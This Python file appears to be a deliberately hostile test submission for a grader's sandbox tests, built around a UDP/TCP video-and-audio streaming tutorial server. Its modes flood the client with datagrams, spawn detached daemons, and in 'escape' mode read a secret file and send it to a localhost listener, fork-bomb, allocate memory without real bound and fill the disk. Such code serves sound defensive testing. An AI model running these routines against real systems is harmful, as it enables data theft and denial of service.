# A hostile tutorial-style submission for grader/hostile.test.ts: the tutorial's settings lines (the
# grader rewrites them), then whatever hostile.json beside it asks for:
#   flood     — after the hello, floods the grader's client with random datagrams of 1..65507 bytes
#   tcpsilent — streams valid frames on UDP, accepts the audio connection and never sends on it
#   endless   — prints one endless line (no newline ever) and serves nothing
#   fork      — forks a child that leaves the process group (setsid) and outlives the server, which
#               then streams; the child writes its pid to cfg["pidfile"] and sleeps
#   escape    — tries to get out of the sandbox, each attempt bounded, records what each one saw in
#               escape.json in its working folder, then streams normally (the stream must still be
#               measured): writes to cfg["write"] paths, reads cfg["secret"], sends it to the host's
#               127.0.0.1:cfg["port"], leaves a daemon, allocates without bound, fork-bombs (at most
#               cfg["forks"]), fills its folder and /tmp (at most cfg["fill_mb"] MiB each); with
#               cfg["strict"], an attempt that got out stops it before streaming (ESCAPED: …)
import base64, errno, json, math, os, pickle, random, signal, socket, struct, sys, threading, time

host_ip = '192.168.1.21'
port = 9688
filename = 'count.mp4'

here = os.path.dirname(os.path.abspath(__file__))
cfg = json.load(open(os.path.join(here, 'hostile.json')))
mode = cfg['mode']

if mode == 'endless':
    chunk = 'x' * 65536
    while True:
        sys.stdout.write(chunk)
        sys.stdout.flush()

if mode == 'fork':
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:  # the classic daemon double fork: no longer our child, not in our group
            with open(cfg['pidfile'], 'w') as f:
                f.write(str(os.getpid()))
            time.sleep(3600)
        os._exit(0)

def attempt(name, fn, seen):
    try:
        seen[name] = 'SUCCEEDED: ' + str(fn())
    except BaseException as e:  # MemoryError included: the attempt failing is the point
        seen[name] = 'failed: %s: %s' % (type(e).__name__, e)


def write_outside(path):
    with open(path, 'w') as f:
        f.write('written by a submission\n')
    return path


def read_secret():
    with open(cfg['secret']) as f:
        return f.read()


def exfiltrate():
    s = socket.create_connection(('127.0.0.1', cfg['port']), timeout=2)
    s.sendall(b'stolen: ' + open(cfg['secret'], 'rb').read() if os.path.exists(cfg['secret']) else b'stolen: nothing')
    s.close()
    return 'connected to the host listener'


def daemon():
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            while True:  # keeps knocking on the host listener for as long as it lives
                try:
                    socket.create_connection(('127.0.0.1', cfg['port']), timeout=1).close()
                except OSError:
                    pass
                time.sleep(0.5)
        os._exit(0)
    os.waitpid(pid, 0)
    return 'a daemon (whether it outlives the server is checked from outside)'


def hog():
    kept, mib = [], 0
    while mib < 64 * 1024:  # bounded: 64 GiB
        kept.append(bytearray(64 * 1024 * 1024))
        mib += 64
    return 'allocated %d MiB' % mib


def fork_bomb():
    kids = []
    try:
        for _ in range(cfg.get('forks', 2000)):
            pid = os.fork()
            if pid == 0:
                time.sleep(30)
                os._exit(0)
            kids.append(pid)
        return 'forked %d processes' % len(kids)
    except OSError as e:
        raise OSError(e.errno, '%s after %d processes' % (e.strerror, len(kids)))
    finally:
        for pid in kids:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)


def fill(path):
    block, written = b'\0' * (1 << 20), 0
    try:
        with open(path, 'wb') as f:
            while written < cfg.get('fill_mb', 1024):
                f.write(block)
                f.flush()
                written += 1
        return 'wrote %d MiB to %s' % (written, path)
    except OSError as e:
        raise OSError(e.errno, '%s after %d MiB' % (e.strerror, written))
    finally:
        try:
            os.remove(path)
        except OSError:
            pass


if mode == 'escape':
    seen = {'uid': os.getuid(), 'home': os.environ.get('HOME'), 'cwd': os.getcwd()}
    for i, path in enumerate(cfg['write']):
        attempt('write %s' % path, lambda: write_outside(path), seen)
    attempt('read secret', read_secret, seen)
    attempt('connect host 127.0.0.1', exfiltrate, seen)
    seen['daemon'] = 'forked ' + daemon()
    attempt('memory hog', hog, seen)
    attempt('fork bomb', fork_bomb, seen)
    attempt('fill own folder', lambda: fill(os.path.join(here, 'fill.bin')), seen)
    attempt('fill /tmp', lambda: fill('/tmp/fill.bin'), seen)
    with open(os.path.join(here, 'escape.json'), 'w') as f:
        json.dump(seen, f, indent=1)
    escaped = [k for k, v in seen.items() if isinstance(v, str) and v.startswith('SUCCEEDED')]
    if escaped and cfg.get('strict'):
        # Graded from outside: an escape shows as a server that never streams, with this line as the reason.
        print('ESCAPED: ' + '; '.join(escaped), flush=True)
        sys.exit(3)
    print('escape attempts done, none got out', flush=True)

udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 * 1024 * 1024)
udp.bind((host_ip, port))
tcp = socket.socket()
tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
tcp.bind((host_ip, port - 1))
tcp.listen(5)
print('Listening at:', (host_ip, port), flush=True)
jpeg = open(os.path.join(here, 'frame.jpg'), 'rb').read()

msg, addr = udp.recvfrom(65536)
conn, _ = tcp.accept()  # and never send a byte on it (escape: it streams sound like the tutorial)


def sound():
    # A 440 Hz tone in the tutorial's framing (u64 length + pickle.dumps(pcm)), paced at 44.1 kHz.
    tone = b''.join(struct.pack('<hh', v, v) for v in (int(8000 * math.sin(2 * math.pi * 440 * i / 44100)) for i in range(1024)))
    t0, k = time.perf_counter(), 0
    while k < 44100 * 60 // 1024:
        delay = t0 + k * 1024 / 44100 - time.perf_counter()
        if delay > 0:
            time.sleep(delay)
        a = pickle.dumps(tone)
        conn.sendall(struct.pack('Q', len(a)) + a)
        k += 1


if mode == 'escape':
    threading.Thread(target=sound, daemon=True).start()
if mode == 'flood':
    rnd = random.Random(1)
    blobs = [os.urandom(rnd.randint(1, 65507)) for _ in range(64)]
    while True:
        try:
            udp.sendto(blobs[rnd.randrange(64)], addr)
        except OSError:
            pass
t0 = time.perf_counter()
n = 0
while True:
    delay = t0 + n / 30 - time.perf_counter()
    if delay > 0:
        time.sleep(delay)
    udp.sendto(base64.b64encode(jpeg), addr)
    n += 1
